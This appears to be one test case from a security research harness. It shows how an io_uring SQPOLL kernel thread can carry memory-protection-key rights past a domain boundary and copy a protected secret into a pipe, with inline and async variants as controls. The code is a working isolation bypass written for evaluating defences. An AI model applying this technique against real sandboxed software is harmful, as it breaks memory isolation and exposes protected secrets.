/* B6: io_uring requests that name domain memory. A ring whose kernel thread (SQPOLL)
 * was born while rights were open keeps them for ever, and is driven through shared
 * memory, without a system call. Requests that run inline or in a worker thread have
 * the rights of whoever hands them in: controls.
 *
 * Source: own trials (kernel threads inherit PKRU from their creator).
 */
#include <fcntl.h>
#include <unistd.h>
#include "attack.h"
#include "ring.h"

static struct ring ring;
static int ends[2];

static void make(unsigned flags) {
    const char *call = NULL;
    TRY("pipe2", pipe2(ends, O_CLOEXEC));
    TRY(call, ring_open(&ring, flags, &call));
}
static void make_polled(void) { make(IORING_SETUP_SQPOLL); }
static void make_plain(void) { make(0); }

static void write_out(unsigned char request_flags) {
    unsigned char bytes[SECRET_BYTES];
    if (!ring.requests) return; /* refused: said already */
    int count = ring_run(&ring, &(struct io_uring_sqe){.opcode = IORING_OP_WRITE, .flags = request_flags,
                         .fd = ends[1], .addr = (uintptr_t)target.secret, .len = SECRET_BYTES, .off = (uint64_t)-1});
    if (count < 0) {
        attack_refused("IORING_OP_WRITE", -count);
        return;
    }
    attack_hand_in(bytes, (size_t)TRY("read", read(ends[0], bytes, sizeof bytes)));
}
static void write_now(void) { write_out(0); }
static void write_async(void) { write_out(IOSQE_ASYNC); }

const struct attack attacks[] = {
    {.variant = "sqpoll", .while_open = make_polled, .attack = write_now},
    {.variant = "inline", .while_open = make_plain, .attack = write_now, .flags = ATTACK_CONTROL},
    {.variant = "async", .while_open = make_plain, .attack = write_async, .flags = ATTACK_CONTROL},
    {0},
};
